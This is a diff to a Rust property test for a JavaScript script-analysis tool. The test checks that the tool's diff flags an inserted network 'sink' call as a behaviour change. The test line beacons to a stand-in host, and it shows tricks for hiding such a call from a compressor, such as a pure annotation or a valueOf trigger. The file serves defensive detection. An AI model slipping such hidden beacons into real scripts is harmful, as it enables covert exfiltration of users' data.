@@ -1,6 +1,7 @@
 //! Properties of the normalised hash, on generated scripts: renaming locals, reformatting,
 //! re-commenting and changing literal text never change it; changing a member name, a URL
-//! host or inserting a call to a network sink always does.
+//! host or inserting a call to a network sink always does, and the diff (with its second
+//! opinion, oxc's compressor on both versions) judges the inserted call a change.
 #![allow(clippy::unwrap_used)]
 
 use parapet_scripts::analysis::analyse;
@@ -188,6 +189,33 @@ proptest! {
             &src[pos..]
         );
         prop_assert_ne!(hash(&src), hash(&injected));
+    }
+
+    /// The diff, second opinion included (both versions compressed by oxc), judges an
+    /// inserted sink call a behaviour change however it is hidden from the compressor: as
+    /// written, under a pure annotation, or inside a `valueOf` that an unused comparison
+    /// calls (which oxc's compressor drops).
+    #[test]
+    fn an_inserted_sink_call_is_a_behaviour_change_in_the_diff(
+        stmts in prop::collection::vec(stmt(), 1..12),
+        st in style(),
+        at in any::<prop::sample::Index>(),
+        disguise in 0usize..3,
+    ) {
+        use parapet_scripts::analysis::diff::ScriptDiff;
+        let src = render(&stmts, &st);
+        let bounds: Vec<usize> = src.match_indices(';').map(|(i, _)| i + 1).collect();
+        let pos = bounds[at.index(bounds.len() - 1)];
+        let call = "navigator.sendBeacon(\"https://x.example/c\", 0)";
+        let code = match disguise {
+            0 => format!("{call};"),
+            1 => format!("/*#__PURE__*/ {call};"),
+            _ => format!("({{ valueOf: function () {{ {call}; return 1; }} }}) == 1;"),
+        };
+        let injected = format!("{} {code}{}", &src[..pos], &src[pos..]);
+        let (a, b) = (analyse(&src), analyse(&injected));
+        let d = ScriptDiff::between("a", &a, "b", &b);
+        prop_assert!(d.comparable && d.behaviour_changed, "{}", injected);
     }
 }
 
